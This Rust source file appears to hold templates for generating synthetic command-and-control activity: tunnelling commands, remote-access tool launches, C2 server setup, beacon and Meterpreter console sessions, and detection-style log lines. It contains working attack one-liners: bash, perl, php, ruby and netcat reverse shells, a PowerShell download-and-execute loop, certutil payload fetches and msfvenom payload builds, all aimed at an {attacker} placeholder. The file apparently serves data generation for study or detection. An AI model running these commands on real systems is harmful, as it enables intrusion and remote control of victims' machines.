//! Command and control: tunnels, remote tools, listeners, beacons, prompts of frameworks.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Sh, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("c2-tunnels", "c2-tunnels", Cmd, &[
        concat!(
            r"«chisel¦chisel.exe¦{dir}\{alnum5}.exe» client {attacker}:{port} ",
            "R:«socks¦{port}:127.0.0.1:{port}¦{port}:{ip}:3389»« --fingerprint {b64_40}=»",
        ),
        concat!(
            "«ngrok¦ngrok.exe» «tcp 3389¦http {port}¦config add-authtoken {alnum32}¦start --all --config ",
            "{stem}.yml»",
        ),
        concat!(
            r"«plink¦plink.exe¦{dir}\plink.exe» «-ssh ¦-N ¦»-R {port}:127.0.0.1:«3389¦445¦{port}» «-pw ",
            "{password} »{user}@{attacker}",
        ),
        "ssh.exe -N -«R {port}:localhost:3389¦D {port}¦L {port}:{ip}:3389» {user}@{attacker}",
        concat!(
            "netsh interface portproxy «add v4tov4 listenport={port} listenaddress=0.0.0.0 ",
            "connectport={port} connectaddress={ip}¦show all¦reset¦delete v4tov4 listenport={port}»",
        ),
        concat!(
            "«frpc.exe -c frpc.ini¦fscan.exe -h {cidr} -o {stem}.txt¦iox.exe fwd -l {port} -r ",
            "{ip}:{port}¦stowaway_agent.exe -c {attacker}:{port} -s {alnum8}¦ligolo-agent.exe -connect ",
            "{attacker}:{port} -ignore-cert¦revsocks.exe -connect {attacker}:{port} -pass {alnum8}¦gost.exe ",
            "-L=:{port} -F=socks5://{attacker}:{port}¦nps.exe -server={attacker}:{port}¦earthworm.exe -s ",
            "rssocks -d {attacker} -e {port}¦htran.exe -slave {attacker} {port} 127.0.0.1 3389¦lcx.exe ",
            "-slave {attacker} {port} 127.0.0.1 3389¦3proxy.exe {stem}.cfg¦socat.exe TCP-LISTEN:{port},fork ",
            "TCP:{ip}:{port}»",
        ),
        concat!(
            "«nc¦nc.exe¦ncat¦nc64.exe» «-e cmd.exe {attacker} {port}¦-lvp {port} -e cmd.exe¦-nv {attacker} ",
            "{port}¦--ssl {attacker} {port} -e powershell¦-L -p {port} -d -e cmd.exe¦-z -v {ip} {port}»",
        ),
        "powercat -c {attacker} -p {port} -«e cmd¦ep¦i {stem}.txt»",
        concat!(
            "cloudflared.exe «tunnel --url rdp://localhost:3389¦access rdp --hostname {fqdn} --url ",
            "localhost:{port}¦service install {b64_80}»",
        ),
        "code.exe tunnel --accept-server-license-terms --name {stem} & code-tunnel.exe service install",
        "tailscale.exe up --authkey=tskey-auth-{alnum20} & zerotier-cli join {hex16}",
        concat!(
            r#""C:\Program Files (x86)\«ScreenConnect Client ({hex16})\ScreenConnect.ClientService.exe" "#,
            r#""?e=Access&y=Guest&h={fqdn}&p={port}&s={guid}"¦AnyDesk\AnyDesk.exe" "#,
            r#"--start-service¦TeamViewer\TeamViewer_Service.exe"¦Remote Utilities - Host\rutserv.exe" "#,
            r#"-service¦NetSupport\client32.exe" /* *¦Atera Networks\AteraAgent\AteraAgent.exe" /i "#,
            r#"/IntegratorLogin={user}@{domain}¦Splashtop\Splashtop Remote\Server\SRService.exe"¦GoToAssist "#,
            r#"Remote Support Unattended\g2ax_service.exe"»"#,
        ),
        concat!(
            r"{dir}\{stem}.exe «-connect {attacker}:{port}¦--server https://{fqdn}:{port} --id {guid}¦-c ",
            "{attacker} -p {port} -k {alnum16}¦{ip} {port}¦--proxy {ip}:{port} --sleep {10..600}¦-url {url}»",
        ),
        r"rundll32.exe {dir}\{stem}.dll,StartW",
        r"regsvr32.exe /s {dir}\{stem}.ocx & ping {fqdn}",
        r#"powershell -nop -w hidden -c "while($true){try{iex(irm {url})}catch{};sleep {5..90}}""#,
        "dnscat2-v0.07-client-win32.exe --secret={alnum12} {fqdn}",
        "iodine.exe -f -P {password} {fqdn}",
        "nslookup -type=txt {alnum12}.{fqdn} {attacker}",
        r#"curl -s -A "Mozilla/5.0" https://{fqdn}/{alnum8} -H "Cookie: SESSIONID={b64_40}""#,
        "tor.exe -f torrc --HiddenServiceDir {dir} & proxifier.exe {stem}.ppx silent-load",
        concat!(
            "certutil -urlcache -f https://{fqdn}/{alnum8}.txt {stem}.txt & certutil -decode {stem}.txt ",
            "{stem}.dll",
        ),
    ])
    .weight(9),
    Family::other("c2-server", "c2-server", Sh, &[
        concat!(
            r#"msfconsole -q -x "use «exploit/multi/handler¦exploit/multi/script/web_delivery¦auxiliary/server/"#,
            "socks_proxy¦auxiliary/server/capture/smb»; set PAYLOAD ",
            "windows/x64/meterpreter/reverse_«tcp¦https»; set LHOST {attacker}; set LPORT {port}; «run ",
            r#"-j¦exploit»""#,
        ),
        concat!(
            "msfvenom -p «windows/x64/meterpreter/reverse_https¦windows/shell_reverse_tcp¦linux/x64/shell_rev",
            "erse_tcp¦cmd/unix/reverse_bash¦java/jsp_shell_reverse_tcp¦php/meterpreter_reverse_tcp» ",
            "LHOST={attacker} LPORT={port} «-e x64/xor_dynamic -i {1..9} »-f ",
            "«exe¦elf¦raw¦war¦dll¦csharp¦hta-psh» -o {shdir}/{stem}",
        ),
        "./teamserver {attacker} {password} {stem}.profile",
        "sliver-server «operator --name {first} --lhost {attacker} --save {stem}.cfg¦daemon¦unpack --force»",
        concat!(
            "sliver > «https --lhost {attacker} --lport {port}¦mtls¦generate --http {fqdn} --os windows ",
            "--arch amd64 --save {shdir}¦sessions¦use {ALNUM8}¦jobs¦implants¦beacons rm¦profiles new --mtls ",
            "{attacker} {stem}¦stage-listener --url tcp://{attacker}:{port} --profile {stem}»",
        ),
        "./havoc «server --profile ./profiles/{stem}.yaotl -v¦client»",
        concat!(
            "sudo ./mythic-cli «start¦install github https://github.com/MythicAgents/«apollo¦poseidon¦athena¦",
            "merlin»¦status¦logs mythic_server»",
        ),
        "empire --rest; starkiller &",
        "python3 -m http.server {port}« --directory {shdir}»",
        "«nc -lvnp¦ncat -lvp¦rlwrap nc -lvnp¦socat - TCP-LISTEN:» {port}",
        concat!(
            "socat TCP-LISTEN:{port},fork,reuseaddr «TCP:{ip}:{port}¦OPENSSL:{attacker}:443,verify=0¦EXEC:/bi",
            "n/bash»",
        ),
        "chisel server -p {port} --reverse« --socks5»« --auth {user}:{password}»",
        "sudo ligolo-proxy -selfcert -laddr 0.0.0.0:{port}; sudo ip route add {cidr} dev ligolo",
        "{impketdir}smbserver.py «-smb2support »«-username {user} -password {password} »{share} {shdir}",
        "ssh -«D {port}¦L {port}:{ip}:3389¦R 0.0.0.0:{port}:localhost:{port}» {user}@{rhost} -N",
        concat!(
            "proxychains«4» «-q »«-f {stem}.conf »«curl http://{ip}¦nmap -sT -Pn -p 445,3389 {ip}¦xfreerdp ",
            "/v:{ip} /u:{user} /p:{password}¦smbclient -L //{ip} -U {user}»",
        ),
        "sshuttle -r {user}@{rhost} {cidr}« -x {ip}»",
        "dnscat2-server {fqdn} --secret={alnum12}",
        "iodined -f -c -P {password} 10.53.0.1 {fqdn}",
        concat!(
            "responder -I tun0 -A; updog -p {port}; wsgidav --host=0.0.0.0 --port={port} --root={shdir} ",
            "--auth=anonymous",
        ),
        "docker run -d -p {port}:{port} {first}/{stem}-c2",
        "certbot certonly --standalone -d {fqdn} && cp /etc/letsencrypt/live/{fqdn}/privkey.pem {shdir}",
        "gophish & evilginx2 -p {shdir}/phishlets",
        "bash -i >& /dev/tcp/{attacker}/{port} 0>&1",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {attacker} {port} >/tmp/f",
        r#"{python} -c 'import pty;pty.spawn("/bin/bash")'"#,
        concat!(
            r#"perl -e 'use Socket;$i="{attacker}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")"#,
            ");connect(S,sockaddr_in($p,inet_aton($i)));'",
        ),
        r#"php -r '$s=fsockopen("{attacker}",{port});exec("/bin/sh -i <&3 >&3 2>&3");'"#,
        concat!(
            r#"ruby -rsocket -e 'f=TCPSocket.open("{attacker}",{port}).to_i;exec sprintf("/bin/sh -i <&%d >&%d "#,
            r#"2>&%d",f,f,f)'"#,
        ),
    ])
    .weight(8),
    Family::other("c2-sessions", "c2-sessions", Console, &[
        concat!(
            "beacon> «help¦sleep {1..600}« {10..50}»¦checkin¦note {stem}¦clear¦jobs¦jobkill {1..9}¦mode ",
            r"dns-txt¦pwd¦cd {dir}¦ls¦ls {dir}¦mkdir {dir}\{stem}¦rm {stem}.exe¦cp {stem} {stem}¦mv {stem} ",
            "{stem}¦ps¦kill {pid}¦setenv {stem} {stem}¦socks {port}¦socks stop¦rportfwd {port} {ip} ",
            "{port}¦covertvpn eth0 {ip}¦spunnel x64 {ip} {port} {stem}.bin¦drives¦download {docfile}¦upload ",
            r"{shdir}/{stem}.exe¦run {stem}.exe¦shell dir {dir}¦shell type {dir}\{stem}.txt¦reg query x64 ",
            r"HKLM\{softkey}¦reg queryv x64 HKLM\{syskey} {stem}¦shell reg query HKLM\{syskey}¦shell reg save ",
            r"HKLM\SOFTWARE {outfile}¦shell reg export HKCU\Software {outfile}¦powerpick Get-Service ",
            "{svcname}¦exit»",
        ),
        concat!(
            "[*] Tasked beacon to «sleep for {1..300}s¦list files in {dir}¦list processes¦print working ",
            "directory¦spawn {stem}¦become interactive¦start keylogger¦take screenshot¦upload {stem}.exe as ",
            r"{dir}\{stem}.exe¦download {docfile}¦execute: {stem}.exe¦query HKLM\{softkey}¦stop SOCKS server»",
        ),
        concat!(
            "[+] host called home, sent: {8..90000} bytes⏎[*] «started download of {docfile} ({1000..900000} ",
            r"bytes)¦received output:⏎{domain}\{user}¦received screenshot of {stem} from {user} ({10..90}kb)»",
        ),
        concat!(
            "meterpreter > «help¦background¦sessions -l¦bg¦exit¦guid¦transport list¦sleep ",
            r"{10..900}¦set_timeouts -t {10..600}¦pwd¦cd C:\\Users¦ls¦cat {stem}.txt¦edit {stem}.txt¦del ",
            "{stem}.exe¦lpwd¦upload {stem}.exe¦download {stem}.zip¦portfwd list¦resource {stem}.rc¦info ",
            "post/windows/gather/enum_shares¦load stdapi¦load extapi¦load espia¦use incognito¦channel -i ",
            r"{1..9}¦reg setval -k HKLM\\SOFTWARE\\{vendor} -v {stem} -d {1..9}¦reg queryval -k ",
            r"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa -v RunAsPPL¦reg createkey -k ",
            r"HKCU\\Software\\{stem}¦uuid¦machine_id»",
        ),
        concat!(
            "msf6 > «sessions -l¦sessions -i {1..9}¦sessions -u {1..9}¦search type:post platform:windows ",
            "gather¦search smb¦search hashdump type:post platform:linux¦hosts¦services -p 445¦creds¦creds -t ",
            "ntlm¦loot¦workspace -a {stem}¦db_nmap -sV {ip}¦db_status¦jobs -K¦setg RHOSTS {ip}¦route add ",
            "{cidr} {1..9}¦show options¦info¦back¦vulns¦notes¦import {stem}.xml»",
        ),
        concat!(
            "sliver > «sessions¦use {ALNUM8}¦beacons¦jobs¦armory install all¦armory install ",
            "rubeus¦implants¦websites¦operators¦loot¦hosts¦canaries¦monitor start¦update¦aliases¦extensions»",
        ),
        concat!(
            "sliver ({ALNUM8}) > «background¦info¦ping¦tasks¦interactive¦reconfig -i {10..90}s¦cd ",
            r"C:\\¦pwd¦ls¦mkdir {stem}¦rm {stem}¦download {stem}¦upload {stem}¦socks5 start -P {port}¦portfwd ",
            "add -b {port} -r {ip}:{port}¦registry read --hive HKLM {softkey} {stem}¦registry write --hive ",
            r"HKCU -T dword Software\\{stem} {1..9}¦registry list-values --hive HKLM ",
            r"SYSTEM\\Select¦close¦kill»",
        ),
        concat!(
            "(Empire) > «agents¦listeners¦uselistener http_malleable¦usestager multi/launcher¦interact ",
            "{ALNUM8}¦kill all¦credentials¦creds¦report¦reset¦admin⏎user_list»",
        ),
        concat!(
            r"(Empire: {ALNUM8}) > «info¦sysinfo¦sleep {5..90}¦ps¦shell dir C:\Users¦upload ",
            "{stem}.exe¦download {stem}¦history¦tasking¦usemodule ",
            "powershell/management/get_domain_sid⏎execute¦script_import {stem}.ps1¦script_command ",
            "Invoke-{alnum6}¦exit»",
        ),
        concat!(
            r"[{isodate} {clock}] [{alnum8}] demon >> «help¦sleep {10..90} {10..40}¦checkin¦dir C:\Users¦cd ",
            r"C:\¦pwd¦cat {stem}.txt¦mkdir {stem}¦net computers¦socks add {port}¦rportfwd add {ip} {port} ",
            "{ip} {port}¦task list¦job list¦exit thread»",
        ),
        concat!(
            r"({alnum6}) covenant > «Help¦Jobs¦Delay {5..90}¦ListDirectory C:\¦ChangeDirectory ",
            r"C:\Users¦Kill¦GetCurrentDirectory¦Connect {host} {stem}¦SharpUp audit»",
        ),
        concat!(
            "«Agent¦Grunt¦Implant¦Session» {ALNUM8} «checked in from {ip}¦is late¦was tasked: ps¦returned ",
            r"{1..90} lines¦registered: {domain}\{user} @ {plainhost}»",
        ),
        concat!(
            r"mythic> «help¦sleep {10..90}¦jobs¦cd C:\Users¦pwd¦ls¦cat {stem}.txt¦socks -Port ",
            "{port}¦link¦unlink¦exit¦reg_query -Hive HKLM -Key {softkey}¦reg_write_value -Hive HKCU -Key ",
            r"Software\\{stem} -Name {stem} -Value {1..9}»",
        ),
    ]),
    Family::other("c2-told", "c2-told", Told, &[
        concat!(
            "{who} «established a reverse tunnel¦opened a SOCKS proxy¦connected to the command and control ",
            "server {ip}¦installed AnyDesk¦used ngrok to expose RDP¦ran a Cobalt Strike beacon¦started a ",
            "Sliver implant¦downloaded a second stage from {fqdn}¦used DNS tunnelling through {fqdn}¦used ",
            "Chisel¦opened a reverse shell to {ip}:{port}»{where}.",
        ),
        concat!(
            r"Network connection detected: Image: {dir}\{stem}.exe DestinationIp: {ip} DestinationPort: ",
            "{port} User: {account}",
        ),
        r"Dns query: QueryName: {alnum12}.{fqdn} Image: C:\Windows\System32\{stem}.exe",
        "{plainhost} beacons to {ip}:{port} every {10..600} seconds with {1..40} % jitter.",
        concat!(
            "«Alert¦Detection»: «beaconing¦command and control traffic¦tunnelling tool¦remote access ",
            "software¦suspicious DNS queries» {where}, destination {fqdn}",
        ),
        concat!(
            r"Named pipe \\.\pipe\«msagent_{hex2}¦MSSE-{1000..9999}-server¦postex_{hex4}¦status_{hex2}» was ",
            "created{where}.",
        ),
        "JA3 {hex32} from {ip} to {ip}:443, {1..900} connections a day.",
        concat!(
            r#"User agent "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)" POST "#,
            "https://{fqdn}/submit.php?id={digit6} {1..900} bytes",
        ),
    ])
    .weight(6),
];
